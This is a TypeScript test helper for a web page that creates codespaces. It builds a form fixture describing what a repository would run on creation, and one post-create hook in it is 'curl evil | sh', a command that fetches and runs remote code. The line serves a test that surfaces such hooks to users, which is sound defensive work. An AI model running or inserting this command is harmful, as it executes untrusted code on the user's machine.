import { screen } from '@testing-library/react'
import { expect } from 'vitest'
import { aCodespace } from '#web/testing/a-codespace.ts'
import { aPreview, aResolution } from '#web/testing/a-resolution.ts'
import type { Answers } from '#web/testing/fake-link.ts'
import { renderPage } from '#web/testing/render-page.tsx'
import { NewCodespacePage } from '../NewCodespacePage.tsx'

/** What runs by itself in the repository that tests look at, and what that gets. */
export const wants = {
  image: 'debian',
  build: null,
  capAdd: [],
  features: [],
  services: [],
  remoteUser: null,
  commands: [{ hook: 'postCreateCommand', text: 'curl <b>evil</b> | sh' }],
  ports: [],
  mounts: [],
  notices: [],
  repositoryPermission: 'write' as const,
  secretNames: ['API_TOKEN', 'NPM_TOKEN'],
  askedSecrets: [],
  dotfilesRepositoryUrl: 'https://github.com/ada/dotfiles',
  repositories: [],
  listHash: null,
  isGiven: null,
}
export const trusted = { isTrusted: true, reason: 'decision' as const }

/**
 * The page with the form, on a server that knows one repository, which is trusted unless it answers
 * otherwise.
 */
export function openForm(
  address: string,
  answers: Answers = {},
  isResume = false,
  devcontainerPath?: string,
) {
  const hut = aCodespace()
  const created: string[] = []
  const page = renderPage(
    <NewCodespacePage
      initial={{ repositoryUrl: address, branch: '', devcontainerPath }}
      isResume={isResume}
      onCreated={(name) => created.push(name)}
    />,
    {
      'codespaces.list': () => [],
      'codespaces.create': () => hut,
      'repositories.list': () => ({ items: [], nextPage: null, isConnected: false }),
      'repositories.resolve': () => aResolution(),
      'repositories.preview': () => aPreview({ trust: trusted, wants }),
      'repositoryTokens.request': () => null,
      ...answers,
    },
  )
  const sent = () => page.calls.filter(({ path }) => path === 'codespaces.create')
  return { ...page, created, sent }
}
export const createButton = () => screen.findByRole('button', { name: 'Create codespace' })
/** Nothing is looked up any more. */
export const settled = () => expect.poll(() => screen.queryByText(/Looking at/)).toBeNull()
